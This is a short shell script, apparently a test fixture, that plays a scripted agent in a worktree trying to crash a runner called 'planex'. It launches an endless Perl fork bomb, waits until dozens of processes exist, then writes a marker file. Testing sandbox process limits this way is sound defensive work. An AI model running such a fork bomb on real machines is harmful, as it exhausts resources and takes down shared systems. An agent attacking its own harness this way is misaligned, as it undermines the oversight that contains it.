# Sourced by the scripted agent in T1's worktree. Forks without end,
# hoping to take planex and the machine down with it.
set +e # an attacker keeps going when a step is refused
perl -e 'fork while 1' @TAG@ 2>/dev/null &
i=0; while [ $i -lt 1000000 ]; do set -- /proc/[0-9]*; [ $# -ge 64 ] && break; i=$((i+1)); done
mkdir -p a && echo "T1 was here" > a/t1.txt
